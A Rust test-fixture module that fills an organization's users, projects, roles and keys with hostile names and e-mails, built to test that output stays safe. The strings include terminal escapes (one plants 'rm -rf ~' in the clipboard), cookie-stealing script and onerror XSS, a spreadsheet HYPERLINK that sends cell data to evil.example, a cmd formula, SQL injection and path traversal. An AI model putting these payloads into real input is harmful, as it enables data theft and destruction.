//! Names of people, projects, groups, roles and keys, and e-mails, that attack whoever prints, exports or shows them. All are
//! valid JSON strings, so that a service may well hand them out.

use super::{invitation, person};
use crate::clock::days_before;
use crate::organization::OrganizationRole::{Owner, Reader};
use crate::organization::{KeyOwner, Organization, ProjectRole, Refusal, RoleRequest};

/// Characters in the longest name.
const LONG: usize = 20_000;

/// What it attacks, the name, the e-mail.
const PEOPLE: [(&str, &str, &str); 19] = [
    ("nothing", "Joan Clarke", "joan.clarke@example.com"),
    (
        "a terminal: colours, cleared screen",
        "\u{1b}[31m\u{1b}[2JRed Alert\u{1b}[0m",
        "ansi\u{1b}[8m@example.com",
    ),
    (
        "a terminal: window title",
        "\u{1b}]0;owned\u{7}Title",
        "title\u{1b}]2;x\u{1b}\\@example.com",
    ),
    (
        "a terminal: link that hides its target",
        "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "link@example.com",
    ),
    (
        "a terminal: clipboard",
        "\u{1b}]52;c;cm0gLXJmIH4=\u{7}Clip",
        "clip@example.com",
    ),
    (
        "a terminal: 8-bit control sequence",
        "\u{9b}31mEight\u{9b}0m",
        "eight\u{9b}2J@example.com",
    ),
    (
        "a terminal: rewritten line",
        "Somebody Else\rGuest\u{8}\u{8}\u{8}Owner",
        "rewrite\r@example.com",
    ),
    (
        "a reader: right-to-left override",
        "Invoice \u{202e}gpj.exe",
        "moc.elpmaxe@\u{202e}nimda",
    ),
    (
        "a reader: isolates and marks",
        "\u{2066}Ada\u{2069}\u{200f} Lovelace",
        "bidi\u{2067}@example.com",
    ),
    (
        "a reader: looks like another",
        "\u{410}d\u{430} Lovelace\u{200b}",
        "\u{430}da.lovelace@example.com",
    ),
    (
        "a page",
        "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>@example.com",
    ),
    (
        "a page: attribute and entity",
        "' onmouseover='alert(1)' &lt;b&gt;",
        "a&amp;b@example.com",
    ),
    (
        "a spreadsheet: link",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")",
        "=cmd|'/c calc'!A1@example.com",
    ),
    (
        "a spreadsheet: other starts",
        "+1+1",
        "@SUM(1,1)@example.com",
    ),
    ("a spreadsheet: after a tab", "\t-2+3", "-1@example.com"),
    (
        "a line format",
        "First\nSecond,\"third\";fourth\r\n\u{2028}fifth\u{2029}",
        "line\nbreak@example.com",
    ),
    (
        "a C string",
        "Before\u{0}After\u{1}\u{7f}",
        "nul\u{0}@example.com",
    ),
    (
        "a query, a path, a template",
        "Robert'); DROP TABLE users;--",
        "../../etc/passwd%00${7*7}{{7*7}}@example.com",
    ),
    (
        "a width table",
        "👩🏽‍🚀 Zoë Ω 漢字 e\u{301}\u{301}\u{301} ﷽",
        "emoji-👩🏽‍🚀@example.com",
    ),
];

pub(super) fn fill(organization: &mut Organization, now: u64) -> Result<(), Refusal> {
    people(organization, now);
    let members: Vec<String> = organization.users.iter().map(|it| it.id.clone()).collect();
    for (index, (_, name, _)) in PEOPLE.into_iter().enumerate() {
        add_things(organization, name, &members[index], now)?;
    }
    add_things(organization, &"long ".repeat(LONG / 5), &members[0], now)
}

/// A project, a group, roles and keys of that name, with somebody in them.
fn add_things(
    organization: &mut Organization,
    name: &str,
    member: &str,
    now: u64,
) -> Result<(), Refusal> {
    let since = days_before(now, 50);
    let group = organization.add_group(name, since);
    group.put(member);
    let group = group.id.clone();
    let role = organization.add_role(role(name), since);
    organization.group_mut(&group)?.roles.push(role);
    let project = organization.add_project(name, since);
    let role = organization.add_project_role(&project, role_of_project(name), since)?;
    let account = organization.add_service_account(name, since).id.clone();
    let owner = KeyOwner::from(organization.user(member)?);
    organization.add_project_key(&project, owner.clone(), name, since)?;
    organization.add_admin_key(owner, name, since);
    let project = organization.project_mut(&project)?;
    project.put_user(member, Some(ProjectRole::Member), since);
    project.put_user_role(member, &role, since);
    project.put_user(&account, Some(ProjectRole::Member), since);
    project.put_group_role(&group, &role, since);
    Ok(())
}

fn role(name: &str) -> RoleRequest {
    RoleRequest {
        name: name.to_owned(),
        description: Some(name.to_owned()),
        permissions: vec!["api.groups.read".to_owned()],
    }
}

fn role_of_project(name: &str) -> RoleRequest {
    RoleRequest {
        permissions: vec!["api.model.read".to_owned()],
        ..role(name)
    }
}

fn people(organization: &mut Organization, now: u64) {
    for (index, (attacked, name, email)) in PEOPLE.into_iter().enumerate() {
        let role = if index == 0 { Owner } else { Reader };
        let user = person(organization, name, email, role, days_before(now, 100));
        user.is_default = index == 0;
        user.developer_persona = Some(attacked.to_owned());
    }
    let name = "long ".repeat(LONG / 5);
    let email = format!("{}@example.com", "l".repeat(LONG));
    person(organization, &name, &email, Reader, days_before(now, 100));
    organization.add_user(Reader, days_before(now, 100)).name = Some(String::new());
    for email in [
        "\u{1b}[31m<b>=1+1</b>\n\u{202e}@example.com",
        "\u{0}\u{7}@example.com",
    ] {
        organization.add_invitation(invitation(email, Owner), days_before(now, 1));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_strings_hold_what_they_promise() {
        let all: String = PEOPLE
            .iter()
            .map(|(_, name, email)| format!("{name}{email}"))
            .collect();
        for part in [
            "\u{1b}[",
            "\u{1b}]",
            "\u{9b}",
            "\u{202e}",
            "<script>",
            "=HYPERLINK(",
            "\n",
            "\0",
            "👩🏽‍🚀",
        ] {
            assert!(all.contains(part), "{part:?}");
        }
    }
}
